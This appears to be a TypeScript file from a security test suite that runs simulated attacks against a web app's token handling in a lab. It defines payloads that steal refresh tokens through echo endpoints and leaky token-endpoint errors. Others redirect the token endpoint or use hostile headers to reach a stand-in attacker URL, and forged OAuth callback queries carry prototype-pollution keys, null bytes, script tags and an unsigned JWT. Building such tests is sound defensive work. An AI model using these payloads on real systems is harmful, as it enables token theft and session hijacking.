import type { Fault } from "../../../dev-provider/src/endpoint-control.js";
import { type Attack, attack } from "../attack.js";
import type { Stage } from "../stage.js";

export const apiEcho = attack({
  name: "reads the token from an API that echoes request headers",
  threat: "single-execution theft",
  target: "any",
  async payload(it) {
    for (const base of [it.ownApiUrl, it.apiUrl]) {
      if (!base) continue;
      const response = await fetch(`${base}echo`).catch(() => undefined);
      if (response) it.steal(await response.text());
    }
  },
});

export const apiHostileHeaders = attack({
  name: "uses an API that sends hostile response headers",
  threat: "single-execution theft",
  target: "strongroom",
  async payload(it) {
    for (const name of ["refresh", "service-worker", "link", "huge", "moved", "nothing"]) {
      const response = await fetch(`/api/v1/hostile-${name}`).catch(
        (error: unknown) => void it.steal(String(error)),
      );
      it.steal(response?.url, [...(response?.headers ?? [])], await response?.text().catch(String));
    }
    const frame = document.createElement("iframe");
    frame.src = "/api/v1/hostile-refresh";
    document.body.append(frame);
    await navigator.serviceWorker
      .register(it.scriptUrl("/api/v1/hostile-service-worker"), { scope: "/" })
      .catch((error: unknown) => it.steal(String(error)));
    await it.pause(800);
  },
  async play(stage) {
    const { attackerUrl } = stage.facts;
    const home = `${attackerUrl}${stage.attackerPath}`;
    for (const [name, headers, status] of [
      ["refresh", { refresh: `0; url=${home}/refreshed` }, 200],
      ["service-worker", { "service-worker-allowed": "/", "content-type": "application/json" }, 200],
      ["link", { link: `<${home}/linked>; rel=preload; as=fetch, <${home}/script>; rel=modulepreload` }, 200],
      ["huge", { "x-huge": "x".repeat(12_000), "set-cookie": "session=x" }, 200],
      ["moved", { location: `${home}/moved`, "content-location": `${home}/moved` }, 201],
      ["nothing", { "www-authenticate": `Bearer realm="${home}"`, location: `${home}/denied` }, 401],
    ] as [string, Record<string, string>, number][]) {
      stage.site.routes.set(`/api/v1/hostile-${name}`, (_request, response) => {
        response.writeHead(status, { "content-type": "text/html", ...headers }).end("<p>hostile</p>");
      });
    }
    await stage.openSignedIn();
    await stage.inject();
  },
});

export const tokenEndpointErrorCode = tokenEndpointError(
  "whose error code is the refresh token",
  (error) => ({
    error,
  }),
);

export const tokenEndpointErrorText = tokenEndpointError(
  "whose error text has the refresh token",
  (refreshToken) => ({
    error: "temporarily_unavailable",
    error_description: `cannot use ${refreshToken} now`,
    error_uri: refreshToken,
  }),
);

function tokenEndpointError(how: string, errorWith: (refreshToken: string | undefined) => object): Attack {
  return attack({
    name: `reads the error of a token endpoint ${how}`,
    threat: "single-execution theft",
    target: "strongroom",
    async payload(it) {
      const answer = await fetch("/auth/refresh", { method: "POST" });
      it.steal([...answer.headers], await answer.text());
      it.steal(await (await fetch("/auth/session")).text());
    },
    async play(stage) {
      await stage.openSignedIn();
      const body = JSON.stringify(
        errorWith(stage.lab.authorizationServer.testing.issued.refreshTokens.at(-1)),
      );
      await injectWithFault(stage, { status: 400, body });
    },
  });
}

export const tokenEndpointRedirect = attack({
  name: "uses a redirect of the token endpoint to its own server",
  threat: "acquisition of new tokens",
  target: "strongroom",
  async payload() {
    await fetch("/auth/refresh", { method: "POST" });
  },
  async play(stage) {
    const location = `${stage.facts.attackerUrl}${stage.attackerPath}/token`;
    await stage.openSignedIn();
    await injectWithFault(stage, { status: 307, headers: { location } });
  },
});

/** Injects the payload while the token endpoint answers with this fault. */
async function injectWithFault(stage: Stage, fault: Fault): Promise<void> {
  const { tokenEndpoint } = stage.lab.authorizationServer.testing;
  tokenEndpoint.fail(fault, Number.POSITIVE_INFINITY);
  try {
    await stage.inject();
  } finally {
    tokenEndpoint.reset();
  }
}

export const hostileAuthorizationResponses = attack({
  name: "opens the callback with forged authorization responses",
  threat: "manipulating the sign-in",
  target: "strongroom",
  async play(stage) {
    await stage.openSignedIn();
    const { origin } = stage.site;
    const { attackerUrl } = stage.facts;
    const code = new URL(await stage.codeOfTheAttacker()).searchParams.get("code") ?? "";
    for (const query of [
      `?code=${code}&state=x`,
      `?code=${code}`,
      `?state=x`,
      `?code=${code}&state=x&iss=${encodeURIComponent(attackerUrl)}`,
      `?code=${code}&state=x&state=y`,
      `?code=${code}&code=${code}&state=x`,
      `?__proto__=x&constructor=y&code=${code}&state=__proto__`,
      `?code=${code}&state=${"x".repeat(4_000)}`,
      `?code=${code}&state=%00%ff`,
      `?error=access_denied&error_description=<script>&state=x`,
      `?error=x&code=${code}&state=x`,
      `?access_token=x&id_token=y&token_type=Bearer&state=x`,
      `#code=${code}&state=x`,
      `#access_token=x&state=x`,
      `?response=eyJhbGciOiJub25lIn0.e30.&state=x`,
    ]) {
      await stage.browser.goto(`${origin}/auth/callback${query}`);
    }
    await stage.open();
  },
  gain: (stage) => stage.isTheAttackersSession(),
});
